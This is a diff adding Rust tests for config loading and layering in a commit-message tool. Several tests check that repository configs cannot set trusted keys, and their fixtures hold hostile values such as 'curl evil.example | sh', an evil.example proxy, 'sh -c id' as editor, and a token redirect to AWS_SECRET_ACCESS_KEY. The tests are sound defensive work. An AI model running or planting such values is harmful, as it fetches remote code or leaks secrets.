@@ -0,0 +1,408 @@
+//! Tests for configuration loading and layering.
+
+use std::fs;
+
+use tempfile::TempDir;
+
+use commit_wizard::config::{Config, REPO_CONFIG_FILE};
+use commit_wizard::postprocess::{PostProcessFailure, PostProcessors};
+use commit_wizard::validation::{EmptyDescription, ScopeCasing};
+
+#[test]
+fn test_default_config() {
+    let config = Config::default();
+    assert!(!config.license.enabled);
+    assert!(config.license.extensions.contains(&"rs".to_string()));
+}
+
+#[test]
+fn test_from_toml_str_partial() {
+    let config = Config::from_toml_str("[license]\nenabled = true\n").unwrap();
+    assert!(config.license.enabled);
+    // Unspecified keys keep their defaults
+    assert!(!config.license.extensions.is_empty());
+}
+
+#[test]
+fn test_unknown_keys_are_rejected() {
+    assert!(Config::from_toml_str("[license]\nenabeld = true\n").is_err());
+    assert!(Config::from_toml_str("[nonsense]\n").is_err());
+}
+
+#[test]
+fn test_load_repo_and_explicit_layering() {
+    let tmp = TempDir::new().unwrap();
+    fs::write(
+        tmp.path().join(REPO_CONFIG_FILE),
+        "[license]\nenabled = true\nextensions = [\"rs\"]\n",
+    )
+    .unwrap();
+
+    let config = Config::load(tmp.path(), None).unwrap();
+    assert!(config.license.enabled);
+    assert_eq!(config.license.extensions, vec!["rs".to_string()]);
+
+    // Explicit file overrides only the keys it sets
+    let explicit = tmp.path().join("extra.toml");
+    fs::write(&explicit, "[license]\nextensions = [\"py\"]\n").unwrap();
+    let config = Config::load(tmp.path(), Some(&explicit)).unwrap();
+    assert!(config.license.enabled);
+    assert_eq!(config.license.extensions, vec!["py".to_string()]);
+}
+
+#[test]
+fn test_repo_config_cannot_set_user_only_keys() {
+    let tmp = TempDir::new().unwrap();
+    fs::write(
+        tmp.path().join(REPO_CONFIG_FILE),
+        "[context]\ncommand = \"curl evil.example | sh\"\nmax_lines = 5\n",
+    )
+    .unwrap();
+
+    let config = Config::load(tmp.path(), None).unwrap();
+    assert_eq!(config.context.command, None);
+    // Other keys of the table still apply
+    assert_eq!(config.context.max_lines, 5);
+
+    let explicit = tmp.path().join("trusted.toml");
+    fs::write(&explicit, "[context]\ncommand = \"cargo test\"\n").unwrap();
+    let config = Config::load(tmp.path(), Some(&explicit)).unwrap();
+    assert_eq!(config.context.command.as_deref(), Some("cargo test"));
+}
+
+#[test]
+fn test_repo_config_cannot_set_post_processors() {
+    let tmp = TempDir::new().unwrap();
+    fs::write(
+        tmp.path().join(REPO_CONFIG_FILE),
+        "[message]\npost_process = [\"./scripts/x\"]\npost_process_failure = \"keep\"\n",
+    )
+    .unwrap();
+
+    let config = Config::load(tmp.path(), None).unwrap();
+    assert!(config.message.post_process.is_empty());
+    assert_eq!(
+        config.message.post_process_failure,
+        PostProcessFailure::Keep
+    );
+}
+
+#[test]
+fn test_repo_config_cannot_set_the_network() {
+    let tmp = TempDir::new().unwrap();
+    fs::write(
+        tmp.path().join(REPO_CONFIG_FILE),
+        "[network]\nproxy = \"http://evil.example:3128\"\nca_bundles = [\"evil.pem\"]\n\
+         [network.openai]\nproxy = \"http://evil.example:3128\"\n",
+    )
+    .unwrap();
+
+    let config = Config::load(tmp.path(), None).unwrap();
+    assert_eq!(config.network, Default::default());
+}
+
+#[test]
+fn test_repo_config_cannot_set_the_editor() {
+    let tmp = TempDir::new().unwrap();
+    fs::write(
+        tmp.path().join(REPO_CONFIG_FILE),
+        "[ui]\neditor = \"sh -c id\"\nexternal_editor = true\n",
+    )
+    .unwrap();
+
+    let config = Config::load(tmp.path(), None).unwrap();
+    assert_eq!(config.ui.editor, None);
+    assert!(config.ui.external_editor);
+}
+
+#[test]
+fn test_repo_config_cannot_redirect_the_forge_token() {
+    let tmp = TempDir::new().unwrap();
+    fs::write(
+        tmp.path().join(REPO_CONFIG_FILE),
+        "[forge]\nkind = \"gitlab\"\napi_url = \"https://evil.example\"\n\
+         token_env = \"AWS_SECRET_ACCESS_KEY\"\nproject = \"team/app\"\n",
+    )
+    .unwrap();
+
+    let config = Config::load(tmp.path(), None).unwrap();
+    assert_eq!(config.forge.kind, None);
+    assert_eq!(config.forge.api_url, None);
+    assert_eq!(config.forge.token_env, None);
+    assert_eq!(config.forge.project.as_deref(), Some("team/app"));
+}
+
+#[test]
+fn test_load_missing_explicit_file_fails() {
+    let tmp = TempDir::new().unwrap();
+    assert!(Config::load(tmp.path(), Some(&tmp.path().join("missing.toml"))).is_err());
+}
+
+#[test]
+fn test_scope_policy_section() {
+    let config = Config::from_toml_str(
+        "[scope]\nrequired_for = [\"feat\", \"fix\"]\npattern = \"^[a-z-]+$\"\n",
+    )
+    .unwrap();
+    assert_eq!(config.scope.required_for, vec!["feat", "fix"]);
+    assert!(config.scope.forbidden_for.is_empty());
+    assert_eq!(config.scope.pattern.as_deref(), Some("^[a-z-]+$"));
+    assert!(config.scope.ignore.contains(&"src".to_string()));
+
+    let config = Config::from_toml_str("[scope]\nignore = [\"web\"]\n").unwrap();
+    assert_eq!(config.scope.ignore, vec!["web"]);
+    assert_eq!(config.scope.history_commits, 1000);
+    assert_eq!(config.scope.min_uses, 2);
+
+    let config = Config::from_toml_str("[scope]\nhistory_commits = 0\n").unwrap();
+    assert_eq!(config.scope.history_commits, 0);
+    assert_eq!(config.scope.casing, ScopeCasing::Kebab);
+
+    let config = Config::from_toml_str("[scope]\ncasing = \"preserve\"\n").unwrap();
+    assert_eq!(config.scope.casing, ScopeCasing::Preserve);
+    assert!(Config::from_toml_str("[scope]\ncasing = \"camel\"\n").is_err());
+    assert!(config.scope.allowed.is_empty());
+
+    let config = Config::from_toml_str("[scope]\nallowed = [\"api\", \"ui\"]\n").unwrap();
+    assert_eq!(config.scope.allowed, vec!["api", "ui"]);
+}
+
+#[test]
+fn test_scope_rules() {
+    let config =
+        Config::from_toml_str("[[scope.rules]]\npaths = [\"migrations/**\"]\nscope = \"db\"\n")
+            .unwrap();
+    assert_eq!(config.scope.rules.len(), 1);
+    assert_eq!(config.scope.rules[0].paths, vec!["migrations/**"]);
+    assert_eq!(config.scope.rules[0].scope, "db");
+
+    assert!(Config::from_toml_str("[[scope.rules]]\npaths = [\"a\"]\n").is_err());
+}
+
+#[test]
+fn test_ai_section() {
+    use commit_wizard::provider::ProviderKind;
+
+    assert_eq!(Config::default().ai.provider, ProviderKind::Auto);
+
+    let config =
+        Config::from_toml_str("[ai]\nprovider = \"github-models\"\nmodel = \"gpt-4o\"\n").unwrap();
+    assert_eq!(config.ai.provider, ProviderKind::GithubModels);
+    assert_eq!(config.ai.model.as_deref(), Some("gpt-4o"));
+
+    assert!(Config::from_toml_str("[ai]\nprovider = \"bard\"\n").is_err());
+
+    assert_eq!(Config::default().ai.candidates, 1);
+    let config = Config::from_toml_str("[ai]\ncandidates = 3\n").unwrap();
+    assert_eq!(config.ai.candidates, 3);
+
+    assert_eq!(Config::default().ai.diff_tokens, 1500);
+    let config = Config::from_toml_str("[ai]\ndiff_tokens = 4000\n").unwrap();
+    assert_eq!(config.ai.diff_tokens, 4000);
+
+    assert_eq!(Config::default().ai.retries, 3);
+    assert_eq!(Config::default().ai.retry_delay_ms, 1000);
+    let config = Config::from_toml_str("[ai]\nretries = 0\nretry_delay_ms = 250\n").unwrap();
+    assert_eq!(config.ai.retries, 0);
+    assert_eq!(config.ai.retry_delay_ms, 250);
+}
+
+#[test]
+fn test_timeouts_section() {
+    use std::time::Duration;
+
+    let config = Config::default();
+    assert_eq!(config.timeouts.stage(), Duration::from_secs(10));
+    assert_eq!(config.timeouts.commit(), Duration::from_secs(30));
+    assert!(config.ai.timeout.is_none());
+
+    let mut config = Config::from_toml_str(
+        "[timeouts]
+commit = 90
+push = 300
+",
+    )
+    .unwrap();
+    assert_eq!(config.timeouts.commit(), Duration::from_secs(90));
+    assert_eq!(config.timeouts.push(), Duration::from_secs(300));
+    assert_eq!(config.timeouts.stage(), Duration::from_secs(10));
+    assert!(Config::from_toml_str(
+        "[timeouts]
+hooks = 5
+"
+    )
+    .is_err());
+
+    // Command line overrides win over the file
+    config.apply_timeout_override("commit=120").unwrap();
+    config.apply_timeout_override("ai=45").unwrap();
+    assert_eq!(config.timeouts.commit(), Duration::from_secs(120));
+    assert_eq!(config.ai.timeout, Some(45));
+
+    let error = config.apply_timeout_override("hooks=5").unwrap_err();
+    assert!(error.to_string().contains("Unknown timeout operation"));
+    assert!(config.apply_timeout_override("commit").is_err());
+    assert!(config.apply_timeout_override("commit=0").is_err());
+    assert!(config.apply_timeout_override("commit=soon").is_err());
+}
+
+#[test]
+fn test_redact_section() {
+    let config = Config::default();
+    assert!(config.redact.enabled);
+    assert!(config.redact.entropy);
+    assert!(config.redact.patterns.is_empty());
+
+    let config = Config::from_toml_str(
+        "[redact]
+entropy = false
+patterns = [\"ACME-[0-9]+\"]
+",
+    )
+    .unwrap();
+    assert!(config.redact.enabled);
+    assert!(!config.redact.entropy);
+    assert_eq!(config.redact.patterns, vec!["ACME-[0-9]+"]);
+}
+
+#[test]
+fn test_ai_exclude() {
+    assert!(Config::default().ai.exclude.is_empty());
+
+    let config = Config::from_toml_str(
+        "[ai]
+exclude = [\"secrets/**\", \"*.pem\"]
+",
+    )
+    .unwrap();
+    assert_eq!(config.ai.exclude, vec!["secrets/**", "*.pem"]);
+}
+
+#[test]
+fn test_context_section() {
+    let config = Config::default();
+    assert!(config.context.command.is_none());
+    assert_eq!(config.context.max_lines, 50);
+    assert!(config.context.warn_on_failure);
+
+    let config = Config::from_toml_str(
+        "[context]\ncommand = \"npm run lint\"\nmax_lines = 10\nwarn_on_failure = false\n",
+    )
+    .unwrap();
+    assert_eq!(config.context.command.as_deref(), Some("npm run lint"));
+    assert_eq!(config.context.max_lines, 10);
+    assert!(!config.context.warn_on_failure);
+}
+
+#[test]
+fn test_history_section() {
+    let config = Config::default();
+    assert!(!config.history.enabled);
+    assert_eq!(config.history.commits, 500);
+
+    let config = Config::from_toml_str("[history]\nenabled = true\naffinity = 0.7\n").unwrap();
+    assert!(config.history.enabled);
+    assert_eq!(config.history.affinity, 0.7);
+    assert_eq!(config.history.min_commits, 3);
+}
+
+#[test]
+fn test_ticket_section() {
+    use commit_wizard::types::TicketPlacement;
+
+    let config = Config::default();
+    assert_eq!(config.ticket.patterns, [r"[A-Z]+-\d+"]);
+    assert_eq!(config.ticket.placement, TicketPlacement::Header);
+
+    let config = Config::from_toml_str(
+        "[ticket]\npatterns = [\"AB#\\\\d+\", \"#\\\\d+\"]\nplacement = \"footer\"\n",
+    )
+    .unwrap();
+    assert_eq!(config.ticket.patterns, [r"AB#\d+", r"#\d+"]);
+    assert_eq!(config.ticket.placement, TicketPlacement::Footer);
+
+    assert!(Config::from_toml_str("[ticket]\nplacement = \"body\"\n").is_err());
+}
+
+#[test]
+fn test_forge_section() {
+    use commit_wizard::forge::ForgeKind;
+
+    let config = Config::default();
+    assert!(config.forge.enabled);
+    assert!(!config.forge.closes_footer);
+    assert_eq!(config.forge.kind, None);
+
+    let config = Config::from_toml_str(
+        "[forge]\nkind = \"gitlab\"\nproject = \"team/app\"\ncloses_footer = true\n",
+    )
+    .unwrap();
+    assert_eq!(config.forge.kind, Some(ForgeKind::GitLab));
+    assert_eq!(config.forge.project.as_deref(), Some("team/app"));
+    assert!(config.forge.closes_footer);
+
+    assert!(Config::from_toml_str("[forge]\nkind = \"gitea\"\n").is_err());
+}
+
+#[test]
+fn test_message_config_empty_description() {
+    let config = Config::default();
+    assert_eq!(config.message.empty_description, EmptyDescription::Fallback);
+
+    let config = Config::from_toml_str("[message]\nempty_description = \"block\"\n").unwrap();
+    assert_eq!(config.message.empty_description, EmptyDescription::Block);
+    assert!(Config::from_toml_str("[message]\nempty_description = \"skip\"\n").is_err());
+}
+
+#[test]
+fn test_message_config_post_process() {
+    let config = Config::default();
+    assert!(PostProcessors::from_config(&config.message).is_empty());
+    assert_eq!(
+        config.message.post_process_failure,
+        PostProcessFailure::Block
+    );
+
+    let config = Config::from_toml_str(
+        "[message]\npost_process = [\"tr a-z A-Z\", \" \"]\npost_process_failure = \"keep\"\n",
+    )
+    .unwrap();
+    assert_eq!(
+        config.message.post_process_failure,
+        PostProcessFailure::Keep
+    );
+    // Blank commands are ignored
+    assert_eq!(
+        PostProcessors::from_config(&config.message).commands(),
+        ["tr a-z A-Z"]
+    );
+    assert!(Config::from_toml_str("[message]\npost_process_failure = \"skip\"\n").is_err());
+}
+
+#[test]
+fn test_plugin_config() {
+    let config = Config::default();
+    assert!(config.plugins.wasm.is_empty());
+    assert_eq!(config.plugins.max_memory_mb, 64);
+    assert_eq!(config.plugins.max_output_bytes, 1024 * 1024);
+
+    let config =
+        Config::from_toml_str("[plugins]\nwasm = [\"group.wasm\"]\nfuel = 1000\n").unwrap();
+    assert_eq!(
+        config.plugins.wasm,
+        [std::path::PathBuf::from("group.wasm")]
+    );
+    assert_eq!(config.plugins.fuel, 1000);
+    assert!(Config::from_toml_str("[plugins]\nwasi = true\n").is_err());
+}
+
+#[test]
+fn test_diff_config_cache_budget() {
+    let config = Config::default();
+    assert_eq!(config.diff.cache_mb, 64);
+    assert_eq!(config.diff.cache_bytes(), 64 * 1024 * 1024);
+
+    let config = Config::from_toml_str("[diff]\ncache_mb = 8\n").unwrap();
+    assert_eq!(config.diff.cache_bytes(), 8 * 1024 * 1024);
+    assert!(Config::from_toml_str("[diff]\ncache = 8\n").is_err());
+}